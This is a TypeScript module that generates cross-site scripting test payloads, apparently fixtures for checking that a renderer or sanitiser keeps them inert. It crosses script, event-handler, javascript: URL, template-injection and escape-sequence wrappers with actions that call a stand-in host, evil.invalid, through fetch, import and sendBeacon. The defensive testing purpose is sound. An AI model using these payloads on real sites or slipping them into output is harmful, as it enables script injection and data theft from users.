/** Each of these would call `hit` or ask another host, were it ever taken for more than text. */
const actions = [
  'globalThis.__hit=1',
  'alert(1)',
  "fetch('https://evil.invalid/x')",
  'location=`https://evil.invalid`',
  "import('https://evil.invalid/x.js')",
  "new Image().src='https://evil.invalid/i.png'",
  "navigator.sendBeacon('https://evil.invalid/b')",
  "open('https://evil.invalid/')",
  'document.forms[0].submit(globalThis.__hit=2)',
]

const shapes: readonly ((action: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `</p></article><script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<img src="https://evil.invalid/p.png" onload="${act}">`,
  (act) => `<svg onload="${act}"><animate onbegin="${act}"/></svg>`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act) => `<iframe src="javascript:${act}"></iframe>`,
  (act) => `<a href="javascript:${act}">press me</a>`,
  (act) => `[press me](javascript:${act})`,
  (act) => `[press me](data:text/html,<script>${act}</script>)`,
  (act) => `![picture](https://evil.invalid/p.png "${act}")`,
  (act) => `![picture](javascript:${act})`,
  (act) => `<details open ontoggle="${act}">open</details>`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<video src=x onerror="${act}"></video>`,
  (act) => `<object data="javascript:${act}"></object>`,
  (act) => `<style>@import 'https://evil.invalid/s.css';*{background:url(https://evil.invalid/b)}</style>${act}`,
  (act) => `<link rel=stylesheet href="https://evil.invalid/s.css">${act}`,
  (act) => `<meta http-equiv=refresh content="0;url=https://evil.invalid/">${act}`,
  (act) => `<base href="https://evil.invalid/">${act}`,
  (act) => `<form action="https://evil.invalid/"><button autofocus formaction="javascript:${act}">go</button></form>`,
  (act) => `"><script>${act}</script>`,
  (act) => `'-${act}-'`,
  (act) => `\${${act}}`,
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `<math><mtext></mtext><mglyph><style><img src onerror="${act}"></style></mglyph></math>`,
  (act) => `<template><script>${act}</script></template><noscript><img src=x onerror="${act}"></noscript>`,
  (act) => `[TOOL:<img src=x onerror="${act}">]`,
  (act) => `[TOOL:javascript:${act}]`,
  (act) => `https://evil.invalid/?q=${encodeURIComponent(act)}`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt; &#x3C;img src=x onerror=${act}&#x3E;`,
  (act) => `\u202e<script>${act}</script>\u0000\u001b]8;;https://evil.invalid\u0007press\u001b]8;;\u0007`,
  (act) => `<!--<script>${act}</script>--><![CDATA[<script>${act}</script>]]>`,
  (act) => `**<script>${act}</script>** _<img src=x onerror=${act}>_ \`${act}\``,
]

export const payloads: readonly string[] = shapes.flatMap((shape) => actions.map(shape))

let turned = 0
/** Another one each time. */
export const next = (): string => payloads[turned++ % payloads.length]!
